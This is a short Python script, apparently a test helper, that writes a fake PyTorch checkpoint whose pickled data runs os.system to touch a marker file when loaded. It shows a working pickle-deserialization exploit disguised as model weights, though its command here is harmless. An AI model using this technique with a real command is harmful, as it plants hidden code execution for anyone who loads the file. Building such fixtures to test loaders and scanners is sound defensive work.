#!/usr/bin/env python3
"""A `.pt` whose pickle would touch a file when loaded: `hostile_checkpoint.py OUT MARKER`. Standard library only."""

import io
import os
import pickle
import sys
import zipfile


class Payload:
    def __reduce__(self):
        return os.system, (f"touch '{sys.argv[2]}'",)


stream = io.BytesIO()
pickle.Pickler(stream, protocol=2).dump({"model": {}, "extra": Payload()})
code = stream.getvalue().replace(b"cposix\nsystem\n", b"cos\nsystem\n")
assert b"cos\nsystem\n" in code
with zipfile.ZipFile(sys.argv[1], "w") as archive:
    archive.writestr("model/data.pkl", code)
    archive.writestr("model/version", "3\n")
